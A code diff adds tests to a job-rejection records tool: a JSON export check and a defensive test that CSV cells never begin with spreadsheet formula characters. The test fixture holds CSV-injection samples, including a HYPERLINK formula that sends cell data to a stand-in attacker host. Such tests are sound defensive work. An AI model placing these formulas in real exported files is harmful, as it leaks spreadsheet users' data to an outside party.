@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from datetime import UTC, date, datetime
 
 import pytest
@@ -137,6 +138,11 @@ def test_table_and_json() -> None:
     assert records.render([], "table") == "no rejections recorded yet\n"
     table = records.render(ROWS, "table")
     assert table.splitlines()[0].split() == list(records.TABLE_COLUMNS)
+    assert records.render([], "json") == "[]\n"
+    parsed = json.loads(records.render(ROWS, "json"))
+    assert [list(row) for row in parsed] == [list(records.COLUMNS)] * 2
+    assert parsed[0]["company"] == "Nørdlys"
+    assert parsed[1]["linkedin"] == records.linkedin_url("recruiter", "O'Brien & Co; Partners")
 
 
 NOW = datetime(2024, 7, 1, tzinfo=UTC)
@@ -164,3 +170,28 @@ def test_ghosted() -> None:
     ]
     got = records.ghosted(apps, ROWS, now=NOW, days=21)
     assert [(g["company"], g["silent_days"]) for g in got] == [("Silent Ltd", 61), ("Old talk", 61)]
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula() -> None:
+    # A sender controls the subject, the company and the contact's name: in a spreadsheet a
+    # cell starting with = + - @ (or a tab / CR) runs as a formula ("CSV injection").
+    hostile = {
+        **ROWS[0],
+        "company": '=HYPERLINK("http://evil.example/?x="&A1,"Acme")',
+        "position": "+1+1",
+        "contact_name": "@SUM(A1:A9)",
+        "subject": "-2+3 your application",
+        "reason": "\t=cmd",
+        "contact_title": "\r=1",
+    }
+    parsed = list(csv.DictReader(io.StringIO(records.render([hostile, ROWS[1]], "csv"))))
+    for row in parsed:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    assert parsed[0]["company"] == "'" + hostile["company"]
+    assert parsed[0]["position"] == "'+1+1"
+    assert parsed[0]["contact_name"] == "'@SUM(A1:A9)"
+    # ordinary values are untouched, and the JSON export keeps the text as it was
+    assert parsed[1]["company"] == "O'Brien & Co; Partners"
+    assert parsed[1]["received"] == "2024-06-11T08:30:00+00:00"
+    assert json.loads(records.render([hostile], "json"))[0]["position"] == "+1+1"
